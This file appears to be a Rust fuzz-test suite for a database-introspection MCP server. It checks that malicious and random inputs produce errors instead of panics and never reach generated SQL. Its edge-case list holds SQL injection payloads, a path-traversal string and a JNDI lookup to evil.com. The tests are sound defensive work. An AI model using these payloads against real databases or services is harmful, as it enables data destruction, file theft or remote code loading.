//! Black-box fuzzing of the input-facing pieces.
//!
//! Random, malicious and edge-case inputs must produce errors, never panics,
//! and nothing that slips past identifier validation may reach generated SQL.

use db_introspect_mcp::builder::{QueryBuilder, RowFilter};
use db_introspect_mcp::db::DatasourceManager;
use db_introspect_mcp::dialect::DriverType;
use db_introspect_mcp::models::{PaginationParams, validate_identifier};
use db_introspect_mcp::tools::datasource::{ConfigureDatasourceInput, DatasourceToolHandler};
use db_introspect_mcp::tools::query::{ExecuteQueryInput, QueryToolHandler};
use db_introspect_mcp::tools::sql_validator::SqlValidator;
use db_introspect_mcp::tools::table::{ListTablesInput, TableInput, TableToolHandler};
use rand::Rng;
use rand::distributions::Alphanumeric;
use serde_json::json;
use std::str::FromStr;
use std::sync::Arc;

fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random printable-plus-punctuation text, biased towards SQL metacharacters.
fn random_sql_noise(len: usize) -> String {
    const ALPHABET: &[u8] = b"abcXYZ019 _$#'\";-()[]`*/\\%.,=<>\n\t";
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
        .collect()
}

fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "users]; DROP TABLE x; --".to_string(),
        "\"users\"".to_string(),
        "`users`".to_string(),
        "../../etc/passwd".to_string(),
        "a".repeat(10_000),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "\u{0000}\u{FFFF}".to_string(),
        random_string(64),
        random_sql_noise(200),
    ]
}

#[test]
fn test_validator_never_panics() {
    let mut inputs = edge_case_strings();
    for len in [1, 7, 64, 512, 4096] {
        for _ in 0..50 {
            inputs.push(random_sql_noise(len));
            inputs.push(format!("SELECT {}", random_sql_noise(len)));
        }
    }
    for input in inputs {
        let _ = SqlValidator::new(&input).validate();
    }
}

#[test]
fn test_rejected_identifiers_never_reach_sql() {
    let mut inputs = edge_case_strings();
    for _ in 0..500 {
        inputs.push(random_sql_noise(rand::thread_rng().gen_range(1..40)));
    }

    for driver in DriverType::ALL {
        let b = QueryBuilder::new(driver);
        for input in &inputs {
            let valid = validate_identifier("table", input).is_ok();
            let built = b.describe_table(b.default_schema(), input);
            assert_eq!(built.is_ok(), valid, "{:?} {:?}", driver, input);
            if valid {
                assert!(!input.contains(['\'', '"', ';', ' ', '-', '`', '[', ']']));
            }
        }
    }
}

#[test]
fn test_filter_values_are_bound_not_spliced() {
    let columns = vec!["name".to_string()];
    for driver in DriverType::ALL {
        let b = QueryBuilder::new(driver);
        for input in edge_case_strings() {
            let filters = vec![RowFilter {
                column: "name".to_string(),
                operator: "contains".to_string(),
                value: Some(json!(input.clone())),
            }];
            let clause = b.where_clause(&filters, &columns).unwrap();
            assert_eq!(clause.args.len(), 1);
            if input.chars().count() > 3 {
                assert!(!clause.sql.contains(&input), "{:?}", driver);
            }
        }
    }
}

#[test]
fn test_pagination_extremes() {
    let values = [
        None,
        Some(i64::MIN),
        Some(-1),
        Some(0),
        Some(1),
        Some(i64::MAX),
    ];
    for page in values {
        for size in values {
            let p = PaginationParams::listing(page, size);
            assert!(p.page >= 1);
            assert!((1..=500).contains(&p.page_size));
            let r = PaginationParams::rows(page, size);
            assert!((1..=1000).contains(&r.page_size));
        }
    }
}

#[test]
fn test_driver_names_never_panic() {
    for input in edge_case_strings() {
        let _ = DriverType::from_str(&input);
    }
    assert!(DriverType::from_str(" SQLite3 ").is_ok());
}

#[tokio::test]
async fn test_tools_with_fuzzed_arguments() {
    let manager = Arc::new(DatasourceManager::default());
    DatasourceToolHandler::new(manager.clone())
        .configure_datasource(ConfigureDatasourceInput {
            driver: "sqlite".to_string(),
            connection_string: "sqlite::memory:".to_string(),
            name: None,
        })
        .await
        .unwrap();

    let tables = TableToolHandler::new(manager.clone());
    let query = QueryToolHandler::new(manager);

    for input in edge_case_strings() {
        let _ = tables
            .list_tables(ListTablesInput {
                schema: Some(input.clone()),
                name_filter: Some(input.clone()),
                page: Some(rand::thread_rng().gen_range(-5..5)),
                page_size: Some(rand::thread_rng().gen_range(-5..1000)),
            })
            .await;
        let result = tables
            .describe_table(TableInput {
                table_name: input.clone(),
                schema: None,
            })
            .await;
        assert!(result.is_err());
        let _ = query
            .execute_query(ExecuteQueryInput {
                query: input,
                limit: Some(rand::thread_rng().gen_range(0..=u32::MAX)),
                format: Default::default(),
            })
            .await;
    }
}
